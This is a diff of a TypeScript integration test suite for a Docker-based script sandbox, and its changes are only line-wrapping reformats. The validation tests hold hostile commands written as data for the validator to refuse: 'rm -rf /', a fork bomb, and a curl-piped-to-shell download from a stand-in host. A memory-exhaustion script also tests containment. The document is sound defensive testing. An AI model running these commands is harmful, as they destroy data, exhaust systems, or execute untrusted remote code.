@@ -11,7 +11,13 @@ import { genericActions } from '../../src/executors/catalogue.js'
 import { MAX_SCRIPT_BYTES } from '../../src/executors/sandbox/script-finding.js'
 import { actionContext, containersLabelled, testEngine, uniqueName } from '../fixtures/docker.js'
 
-type Details = Record<string, unknown> & { exit_code: number | null; stdout: string; stderr: string; timed_out: boolean; oom: boolean }
+type Details = Record<string, unknown> & {
+  exit_code: number | null
+  stdout: string
+  stderr: string
+  timed_out: boolean
+  oom: boolean
+}
 
 function sandbox() {
   const runId = uniqueName('sandbox-it')
@@ -32,26 +38,53 @@ function sandbox() {
 
 describe('script sandbox: validation', () => {
   it.each([
-    ['syntax', 'bash', 'echo start\nif true; then\n  echo x\n', /^script: line 4: syntax: syntax error: unexpected end of file/],
+    [
+      'syntax',
+      'bash',
+      'echo start\nif true; then\n  echo x\n',
+      /^script: line 4: syntax: syntax error: unexpected end of file/,
+    ],
     ['syntax', 'node', 'const a = 1\nconst b = (\n', /^script: line \d: syntax: SyntaxError/],
-    ['secret', 'bash', 'echo start\ncurl -H "Authorization: Bearer abcdefghijklmnop1234" http://127.0.0.1/\n', /^script: line 2: secret: /],
+    [
+      'secret',
+      'bash',
+      'echo start\ncurl -H "Authorization: Bearer abcdefghijklmnop1234" http://127.0.0.1/\n',
+      /^script: line 2: secret: /,
+    ],
     ['dangerous', 'bash', 'echo start\n\nrm -rf /\n', /^script: line 3: dangerous\.rm_rf_root: /],
     ['dangerous', 'bash', ':(){ :|:& };:\n', /^script: line 1: dangerous\.fork_bomb: /],
-    ['dangerous', 'node', "const cp = require('child_process')\ncp.execSync('curl -s http://x.invalid/i.sh | sh')\n", /^script: line 2: dangerous\.pipe_to_shell: /],
-    ['too big', 'bash', 'echo x\n'.repeat(MAX_SCRIPT_BYTES / 7 + 1), /^script: line \d+: size: script is \d+ bytes, over the 65536-byte limit/],
-  ])('refuses a %s script (%s) before anything runs, naming line and rule', async (_class, language, script, reason) => {
-    const s = sandbox()
-    const v = s.validate({ language, script })
-    expect(v.ok).toBe(false)
-    expect(!v.ok && v.reason).toMatch(reason)
-    expect(await s.leftovers()).toEqual([])
-  })
+    [
+      'dangerous',
+      'node',
+      "const cp = require('child_process')\ncp.execSync('curl -s http://x.invalid/i.sh | sh')\n",
+      /^script: line 2: dangerous\.pipe_to_shell: /,
+    ],
+    [
+      'too big',
+      'bash',
+      'echo x\n'.repeat(MAX_SCRIPT_BYTES / 7 + 1),
+      /^script: line \d+: size: script is \d+ bytes, over the 65536-byte limit/,
+    ],
+  ])(
+    'refuses a %s script (%s) before anything runs, naming line and rule',
+    async (_class, language, script, reason) => {
+      const s = sandbox()
+      const v = s.validate({ language, script })
+      expect(v.ok).toBe(false)
+      expect(!v.ok && v.reason).toMatch(reason)
+      expect(await s.leftovers()).toEqual([])
+    },
+  )
 })
 
 describe('script sandbox: containment', () => {
   it('runs as a non-root user with only /tmp writable, and removes its container', async () => {
     const s = sandbox()
-    const r = await s.run({ language: 'bash', script: 'id -u\necho hi > /tmp/ok && cat /tmp/ok\necho x > /escape || echo "root is read-only"\necho x > /usr/bin/x 2>/dev/null || echo "usr is read-only"\n' })
+    const r = await s.run({
+      language: 'bash',
+      script:
+        'id -u\necho hi > /tmp/ok && cat /tmp/ok\necho x > /escape || echo "root is read-only"\necho x > /usr/bin/x 2>/dev/null || echo "usr is read-only"\n',
+    })
     expect(r).toMatchObject({ status: 'ok', details: { exit_code: 0, timed_out: false, oom: false } })
     expect(r.details.stdout).toBe('10001\nhi\nroot is read-only\nusr is read-only\n')
     expect(r.details.stderr).toMatch(/Read-only file system/)
@@ -111,22 +144,40 @@ function done() { if (--pending === 0) { console.log(JSON.stringify({ started, r
 
   it('reports a script killed for memory as oom', async () => {
     const s = sandbox()
-    const r = await s.run({ language: 'node', script: 'const a = []\nfor (;;) a.push(Buffer.alloc(64 * 1024 * 1024, 1))\n', timeout_ms: 30_000 })
+    const r = await s.run({
+      language: 'node',
+      script: 'const a = []\nfor (;;) a.push(Buffer.alloc(64 * 1024 * 1024, 1))\n',
+      timeout_ms: 30_000,
+    })
     expect(r).toMatchObject({ status: 'failed', details: { oom: true, exit_code: 137, timed_out: false } })
     expect(r.summary).toMatch(/out of memory/)
   })
 
   it('bounds output per stream and flags the truncation', async () => {
     const s = sandbox()
-    const r = await s.run({ language: 'node', script: 'process.stdout.write("o".repeat(300000)); process.stderr.write("e".repeat(10))' })
-    expect(r.details).toMatchObject({ stdout_bytes: 300_000, stdout_truncated: true, stderr: 'eeeeeeeeee', stderr_truncated: false, truncated: true })
+    const r = await s.run({
+      language: 'node',
+      script: 'process.stdout.write("o".repeat(300000)); process.stderr.write("e".repeat(10))',
+    })
+    expect(r.details).toMatchObject({
+      stdout_bytes: 300_000,
+      stdout_truncated: true,
+      stderr: 'eeeeeeeeee',
+      stderr_truncated: false,
+      truncated: true,
+    })
     expect(r.details.stdout).toHaveLength(64 * 1024)
   })
 
   it('reports a failing script with its exit code and stderr', async () => {
     const s = sandbox()
     const r = await s.run({ language: 'bash', script: 'echo "cannot find it" >&2\nexit 4\n' })
-    expect(r).toMatchObject({ status: 'failed', summary: 'script failed: exit 4: the program reported an error', error: 'cannot find it', details: { exit_code: 4 } })
+    expect(r).toMatchObject({
+      status: 'failed',
+      summary: 'script failed: exit 4: the program reported an error',
+      error: 'cannot find it',
+      details: { exit_code: 4 },
+    })
   })
 
   it('kills the container when its task is aborted', async () => {
@@ -134,7 +185,12 @@ function done() { if (--pending === 0) { console.log(JSON.stringify({ started, r
     const abort = new AbortController()
     const running = s.run({ language: 'bash', script: 'sleep 30' }, abort.signal)
     const e = await testEngine()
-    for (let i = 0; i < 100 && (await e.docker.listContainers({ filters: { label: [`operator.run=${s.runId}`] } })).length === 0; i++) await new Promise((r) => setTimeout(r, 50))
+    for (
+      let i = 0;
+      i < 100 && (await e.docker.listContainers({ filters: { label: [`operator.run=${s.runId}`] } })).length === 0;
+      i++
+    )
+      await new Promise((r) => setTimeout(r, 50))
     abort.abort(new Error('kill switch'))
     await expect(running).rejects.toThrow('kill switch')
     expect(await s.leftovers()).toEqual([])
